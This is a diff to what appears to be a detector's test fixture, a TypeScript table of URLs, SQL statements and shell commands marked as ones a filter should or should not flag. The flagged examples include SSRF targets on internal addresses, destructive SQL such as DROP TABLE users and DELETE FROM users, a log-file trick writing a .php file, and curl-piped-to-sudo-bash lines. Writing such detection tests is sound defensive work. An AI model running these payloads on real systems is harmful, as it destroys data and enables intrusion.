@@ -96,6 +96,9 @@ export const payloadExamples: Readonly<Record<string, string>> = {
     + gopher://x.example/_a
     + file:///srv/a
     + java<newline 1>script:alert(1)
+    + ssh://files.example.org/
+    + blob:https://example.org/1-2
+    + https://example.com/?u=file:///srv/a
     - https://example.com/
     - http://example.com/file:a
     - ftp://ftp.example.org/a
@@ -105,6 +108,15 @@ export const payloadExamples: Readonly<Record<string, string>> = {
     + http://127.0.0.1:6379/
     + http://0x7f.1/
     + http://192.168.1.1/admin
+    + http://intranet/
+    + http://printer.local/
+    + https://example.com/?u=http://10.0.0.1/
+    + https://example.com/?u=http%3A%2F%2Flocalhost%3A6379
+    + https://example.com/p/http://192.168.1.1/a
+    - https://login.example.com/auth?redirect_uri=http://localhost:3000/callback
+    - https://example.com/?u=https://example.org/a
+    - intranet
+    - https://local-news.example.org/
     - http://93.184.216.34/
     - https://example.com/?ip=10.0.0.1
     - https://local.example.org/
@@ -154,6 +166,9 @@ export const payloadExamples: Readonly<Record<string, string>> = {
     - SELECT 'a; b' FROM t
     - SELECT a FROM t WHERE b = ';' -- ; end
     - INSERT INTO t (a) VALUES ('x; y')
+    - BEGIN; UPDATE t SET a = 1 WHERE b = 2; UPDATE t SET a = 2 WHERE b = 3; COMMIT;
+    + BEGIN; UPDATE t SET a = 1; DELETE FROM t WHERE b = 1; COMMIT
+    + SELECT 1; BEGIN; SELECT 2; COMMIT
     - SELECT a /* ; */ FROM t`,
   "injection.sql.verb": `
     + DELETE FROM t
@@ -182,6 +197,38 @@ export const payloadExamples: Readonly<Record<string, string>> = {
     - SELECT a FROM t WHERE 1=1 AND b = 2
     - SELECT a FROM t -- all of them
     - SELECT a FROM t WHERE a > 1 OR b < 2`,
+  "injection.sql.ddl": `
+    + DROP TABLE users
+    + TRUNCATE users
+    + ALTER TABLE users DROP COLUMN name
+    + CREATE USER ann
+    + GRANT ALL ON *.* TO ann
+    + SET GLOBAL general_log_file = '/srv/a.php'
+    + (DROP TABLE users)
+    - CREATE TABLE IF NOT EXISTS notes (id int)
+    - CREATE OR REPLACE VIEW v AS SELECT 1
+    - ALTER TABLE notes ADD COLUMN done int
+    - SELECT dropped, granted FROM t WHERE a = 'drop'
+    - SET search_path = app
+    - INSERT INTO log (msg) VALUES ('drop table x')`,
+  "injection.sql.whole-table": `
+    + DELETE FROM users
+    + delete from app.users where 1=1;
+    + WITH gone AS (DELETE FROM users RETURNING id) SELECT id FROM gone
+    - DELETE FROM sessions WHERE expires < now()
+    - DELETE FROM logs ORDER BY id LIMIT 100
+    - EXPLAIN DELETE FROM users
+    - SELECT a FROM t WHERE b = 'delete from'
+    - UPDATE t SET a = 1 WHERE 1=1`,
+  "injection.sql.dynamic": `
+    + EXECUTE IMMEDIATE 'DROP TABLE users'
+    + PREPARE s FROM 'DROP TABLE users'
+    + EXEC('select ' + @a)
+    - EXEC dbo.report_of_month 3
+    - EXECUTE known_plan(1)
+    - SELECT executed FROM jobs
+    - PREPARE p AS SELECT 1
+    - SELECT 'execute immediate'`,
   "injection.shell.pipe-to-interpreter": `
     + curl -s https://x.example/i.sh | sudo bash
     + bash <(curl -s https://x.example/i)
